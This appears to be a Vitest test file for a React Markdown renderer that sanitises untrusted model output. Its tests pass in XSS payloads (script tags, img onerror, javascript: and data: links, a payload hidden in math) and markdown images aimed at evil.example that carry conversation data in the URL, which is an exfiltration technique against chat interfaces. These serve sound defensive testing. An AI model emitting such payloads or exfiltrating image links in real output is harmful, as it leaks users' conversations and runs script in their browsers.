import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown, needsRich, preloadRich } from './Markdown';

const render = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe('markdown rendering of untrusted model output', () => {
  it('renders GFM: tables, task lists, code', () => {
    const html = render('| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n```js\nconst x = 1;\n```');
    expect(html).toContain('<table>');
    expect(html).toContain('type="checkbox"');
    expect(html).toContain('const x = 1;');
    expect(html).toContain('Copy code');
  });

  it('never emits raw HTML from the model', () => {
    const html = render('Hello <img src=x onerror="alert(1)"> <script>alert(2)</script> <iframe src="https://evil.example"></iframe>');
    expect(html).not.toMatch(/<img|<script|<iframe|onerror/i);
  });

  it('never loads a remote image: it shows a placeholder with the URL instead', () => {
    const html = render('![secret](https://evil.example/collect?data=the-conversation)');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('Image not loaded');
    expect(html).toContain('https://evil.example/collect?data=the-conversation');
  });

  it('resolves reference-style images and links across blocks, still without loading anything', () => {
    const html = render('![pic][p] and [docs][d]\n\nMore text.\n\n[p]: https://evil.example/ref.png?q=secret\n[d]: https://example.org/docs');
    expect(html).not.toMatch(/<img/i);
    expect(html).toContain('Image not loaded: pic');
    expect(html).toContain('https://evil.example/ref.png?q=secret');
    expect(html).toContain('href="https://example.org/docs"');
    expect(html).not.toContain('[p]:');
  });

  it('shows every link’s full destination and opens it without opener or referrer', () => {
    const html = render('[your bank](https://evil.example/login)');
    expect(html).toContain('href="https://evil.example/login"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain('(https://evil.example/login)');
  });

  it('drops javascript: and data: links', () => {
    const html = render('[click](javascript:alert(1)) and [data](data:text/html,<script>alert(1)</script>)');
    expect(html).not.toMatch(/href="(javascript|data):/i);
    expect(html).not.toMatch(/<script/i);
  });
});

describe('math and code highlighting', () => {
  it('knows which answers need them', () => {
    expect(needsRich('plain words')).toBe(false);
    expect(needsRich('```py\nprint(1)\n```')).toBe(true);
    expect(needsRich('Euler: $e^{i\\pi} + 1 = 0$')).toBe(true);
    expect(needsRich('$$\\int x\\,dx$$')).toBe(true);
  });

  it('renders KaTeX and highlighted code once loaded, still sanitized', async () => {
    await preloadRich();
    const html = render('Area: $\\pi r^2$\n\n```js\nconst x = "a";\n```\n\n$<img src=x onerror=alert(1)>$');
    expect(html).toContain('class="katex"');
    expect(html).toMatch(/class="hljs-keyword"|class="hljs-string"/);
    // The hostile "math" survives only as escaped text, never as a tag or an attribute.
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<[^>]*\sonerror=/i);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });
});
